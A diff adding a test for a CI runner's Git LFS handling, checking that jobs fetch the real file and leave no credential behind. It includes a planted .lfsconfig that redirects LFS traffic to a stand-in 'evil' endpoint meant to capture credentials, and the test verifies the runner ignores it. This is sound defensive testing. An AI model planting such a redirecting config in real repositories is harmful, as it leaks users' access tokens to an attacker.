@@ -1,0 +1,103 @@
+import { execFile } from 'node:child_process';
+import { createHash, randomBytes } from 'node:crypto';
+import { chmod, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { silentLog } from '../../src/base/log.ts';
+import { Secret } from '../../src/base/secret.ts';
+import { type RunnerHandle, startRunner } from '../../src/runner/loop.ts';
+import { registerRunner } from '../../src/runner/register.ts';
+import { passesIn } from '../support/pass-forms.ts';
+import { startTestServer, type TestServer } from '../support/server.ts';
+
+const run = promisify(execFile);
+const helper = '!f() { test "$1" = get && printf "username=anyone\\npassword=%s\\n" "$TEST_TOKEN"; }; f';
+const ciFile = `
+large:
+  script: ["sha256sum big.bin", "git config --get-regexp lfs || true", "cat .lfsconfig"]
+pointer:
+  variables: { GIT_LFS_SKIP_SMUDGE: "1" }
+  script: ["cat big.bin"]
+`;
+
+describe('the runner and large files', () => {
+  let server: TestServer;
+  let dir: string;
+  let alice: { id: number; token: string };
+  let app: number;
+  let handle: RunnerHandle | undefined;
+  const big = randomBytes(300_000);
+  const oid = createHash('sha256').update(big).digest('hex');
+
+  beforeAll(async () => {
+    dir = await mkdtemp(join(tmpdir(), 'jobpass-runner-lfs-'));
+    await chmod(dir, 0o711);
+    server = await startTestServer();
+    alice = await server.user('alice');
+    app = await server.project('team/app');
+    await server.member(app, alice.id, 40);
+    const runner = await server.runner();
+    const configPath = join(dir, 'config.toml');
+    await registerRunner({
+      url: server.url,
+      token: new Secret(runner.token),
+      executor: 'shell',
+      configPath,
+      name: 'lfs',
+      buildsDir: join(dir, 'builds'),
+    });
+    handle = await startRunner({ configPath, log: silentLog, traceIntervalMs: 20 });
+  });
+  afterAll(async () => {
+    await handle?.stop();
+    await server.stop();
+    await rm(dir, { recursive: true, force: true });
+  });
+
+  async function trace(name: string): Promise<string> {
+    for (;;) {
+      const { list } = await server.call('GET', `/api/v4/projects/${app}/jobs`, { token: alice.token });
+      const job = list.find((one) => one['name'] === name && ['success', 'failed'].includes(String(one['status'])));
+      if (job !== undefined)
+        return (await server.call('GET', `/api/v4/projects/${app}/jobs/${String(job['id'])}/trace`, { token: alice.token })).text;
+      await new Promise((resolve) => setTimeout(resolve, 30));
+    }
+  }
+
+  test('R8 A19 A53 a job finds the file itself, fetched with the fetch pass; .lfsconfig sends nobody elsewhere; no pass is left', async () => {
+    const work = join(dir, 'work');
+    const env = { PATH: process.env['PATH'] ?? '', HOME: dir, LC_ALL: 'C', GIT_CONFIG_NOSYSTEM: '1', TEST_TOKEN: alice.token };
+    const settings = [
+      '-c',
+      'credential.helper=',
+      '-c',
+      `credential.helper=${helper}`,
+      '-c',
+      'user.name=alice',
+      '-c',
+      'user.email=alice@example.com',
+    ];
+    const git = (...args: string[]) => run('git', [...settings, ...args], { env, cwd: args[0] === 'init' ? dir : work });
+    await git('init', '-q', '-b', 'main', work);
+    await git('lfs', 'install', '--local');
+    await git('lfs', 'track', '*.bin');
+    await writeFile(join(work, 'big.bin'), big);
+    await writeFile(join(work, '.gitlab-ci.yml'), ciFile);
+    // Whoever wrote this wants the credential for a server of their own.
+    await writeFile(join(work, '.lfsconfig'), '[lfs]\n\turl = http://127.0.0.1:9/evil\n\tcustomtransfer = evil\n');
+    await git('add', '.');
+    await git('commit', '-q', '-m', 'large');
+    await git('-c', `lfs.url=${server.url}/team/app.git/info/lfs`, 'push', `${server.url}/team/app.git`, 'main');
+    const large = await trace('large');
+    expect(large).toContain(`${oid}  big.bin`);
+    expect(large).toContain('Fetching LFS objects');
+    expect(large).not.toContain('127.0.0.1:9/evil/');
+    const pointer = await trace('pointer');
+    expect(pointer).toContain(`oid sha256:${oid}`);
+    await handle?.drain();
+    for (const entry of await readdir(join(dir, 'builds'), { recursive: true, withFileTypes: true }))
+      if (entry.isFile()) expect(passesIn(await readFile(join(entry.parentPath, entry.name), 'latin1')), entry.name).toEqual([]);
+  });
+});
